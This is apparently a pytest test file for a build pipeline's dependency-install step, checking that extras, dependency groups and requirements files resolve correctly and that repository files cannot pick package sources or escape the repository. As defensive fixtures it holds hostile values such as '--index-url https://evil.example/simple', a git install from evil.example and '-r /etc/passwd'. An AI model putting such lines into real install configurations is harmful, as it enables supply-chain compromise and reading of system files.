"""What the setup step installs: test dependencies found where projects declare them, and nothing from a repository
that could choose where packages come from or reach outside it."""

from __future__ import annotations

from pathlib import Path

import pytest

from actors.pipeline.config import PipelineConfig, PipelineConfigError
from actors.pipeline.install import dependency_group, install_args
from actors.tools.build import build_requires


def project(tmp_path: Path, pyproject: str = "", **files: str) -> Path:
    """A repository with this ``pyproject.toml`` tail and these files (path → text)."""
    tmp_path.mkdir(parents=True, exist_ok=True)
    (tmp_path / "pyproject.toml").write_text('[project]\nname = "p"\nversion = "1"\n' + pyproject)
    for name, text in files.items():
        path = tmp_path / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    return tmp_path


def test_a_project_with_nothing_declared_is_installed_alone(tmp_path: Path) -> None:
    assert install_args(project(tmp_path), PipelineConfig()) == ["-e", "."]


def test_the_first_test_extra_is_installed_with_the_project(tmp_path: Path) -> None:
    repo = project(tmp_path, '[project.optional-dependencies]\ndocs = ["sphinx"]\ndev = ["tox"]\n'
                             'testing = ["pytest"]\n')
    assert install_args(repo, PipelineConfig()) == ["-e", ".[testing]"]


def test_a_dependency_group_is_resolved_with_its_includes(tmp_path: Path) -> None:
    repo = project(tmp_path, '[dependency-groups]\nCoverage = ["coverage[toml]>=7"]\n'
                             'Test = ["pytest>=8", {include-group = "coverage"}, "pretend"]\n')
    assert install_args(repo, PipelineConfig()) == ["-e", ".", "pytest>=8", "coverage[toml]>=7", "pretend"]


@pytest.mark.parametrize(("groups", "says"), [
    ('test = [{include-group = "test"}]', "includes itself"),
    ('test = [{include-group = "a"}]\na = [{include-group = "test"}]', "test → a → test"),
    ('test = [{include-group = "missing"}]', "has no group 'missing'"),
    ('test = ["--index-url=https://evil.example/simple"]', "is neither a requirement"),
    ('test = [42]', "is neither a requirement"),
])
def test_a_bad_dependency_group_is_refused_with_what_is_wrong(tmp_path: Path, groups: str, says: str) -> None:
    with pytest.raises(PipelineConfigError, match=says):
        install_args(project(tmp_path, f"[dependency-groups]\n{groups}\n"), PipelineConfig())


def test_without_an_extra_or_group_the_first_conventional_requirements_file_is_used(tmp_path: Path) -> None:
    repo = project(tmp_path, **{"tests/requirements.txt": "pytest>=6\npretend  # comments are fine\n",
                                "requirements-dev.txt": "tox\n"})
    assert install_args(repo, PipelineConfig()) == ["-e", ".", "-r", "tests/requirements.txt"]
    (repo / "tests" / "requirements.txt").unlink()
    assert install_args(repo, PipelineConfig()) == ["-e", ".", "-r", "requirements-dev.txt"]


@pytest.mark.parametrize("line", [
    "--index-url https://evil.example/simple", "-i https://evil.example/simple",
    "--extra-index-url=https://evil.example/simple", "-f /etc", "--find-links /root/.council",
    "--trusted-host evil.example", "--no-index",
])
def test_a_requirements_file_cannot_choose_where_packages_come_from(tmp_path: Path, line: str) -> None:
    repo = project(tmp_path, **{"requirements-test.txt": f"pytest\n\n{line}\n"})
    with pytest.raises(PipelineConfigError, match=r"requirements-test.txt line 3: .* names where packages come from"):
        install_args(repo, PipelineConfig())


def test_includes_are_followed_and_must_stay_in_the_repository(tmp_path: Path) -> None:
    outside = tmp_path / "outside.txt"
    outside.write_text("pytest\n")
    repo = project(tmp_path / "repo", **{"requirements-test.txt": "-r requirements/base.txt\n",
                                         "requirements/base.txt": "--requirement=more.txt\n",
                                         "requirements/more.txt": "-i https://evil.example/simple\n"})
    with pytest.raises(PipelineConfigError, match=r"requirements/more.txt line 1: -i names"):
        install_args(repo, PipelineConfig())
    (repo / "requirements" / "more.txt").write_text("-r ../../outside.txt\n")
    with pytest.raises(PipelineConfigError, match="must be inside the repository"):
        install_args(repo, PipelineConfig())
    (repo / "requirements" / "more.txt").write_text("-e ../\n-c ../requirements-test.txt\n--only-binary :all:\n"
                                                    "pkg==1 \\\n    --hash=sha256:abc\n")
    with pytest.raises(PipelineConfigError, match="more than 20 deep"):  # it includes the file that includes it
        install_args(repo, PipelineConfig())
    (repo / "requirements" / "more.txt").write_text("-e ../\n--only-binary :all:\npkg==1 \\\n  --hash=sha256:abc\n")
    assert install_args(repo, PipelineConfig()) == ["-e", ".", "-r", "requirements-test.txt"]
    (repo / "requirements" / "more.txt").write_text("-e git+https://evil.example/x.git#egg=x\n")
    with pytest.raises(PipelineConfigError, match="must be a directory of the repository"):
        install_args(repo, PipelineConfig())


def test_the_repositorys_own_install_list_follows_the_same_rules(tmp_path: Path) -> None:
    repo = project(tmp_path, **{"constraints.txt": "pytest<9\n"})
    good = ["-e", ".[test]", "-c", "constraints.txt", "--pre", "hypothesis"]
    assert install_args(repo, PipelineConfig(install=good)) == good
    for bad, says in ((["--index-url", "https://evil.example"], "names where packages come from"),
                      (["-r", "/etc/passwd"], "must be inside the repository"),
                      (["--target", "/usr"], "is not an option the council passes")):
        with pytest.raises(PipelineConfigError, match=says):
            install_args(repo, PipelineConfig(install=bad))


def test_group_names_compare_as_pep_735_says() -> None:
    assert dependency_group({"tests": ["a"], "lint-tools": ["b"]}, "tests") == ["a"]
    with pytest.raises(PipelineConfigError, match="must be a list"):
        dependency_group({"test": "pytest"}, "test")


def test_a_project_without_a_build_system_table_builds_with_pep_518s_default(tmp_path: Path) -> None:
    (tmp_path / "setup.py").write_text("from setuptools import setup\nsetup()\n")
    assert build_requires(tmp_path) == ["setuptools>=40.8.0", "wheel"]  # an older setuptools needs wheel
    (tmp_path / "pyproject.toml").write_text('[tool.black]\nline-length = 100\n')
    assert build_requires(tmp_path) == ["setuptools>=40.8.0", "wheel"]
    (tmp_path / "pyproject.toml").write_text('[build-system]\nrequires = ["flit_core>=3.4"]\n')
    assert build_requires(tmp_path) == ["flit_core>=3.4"]
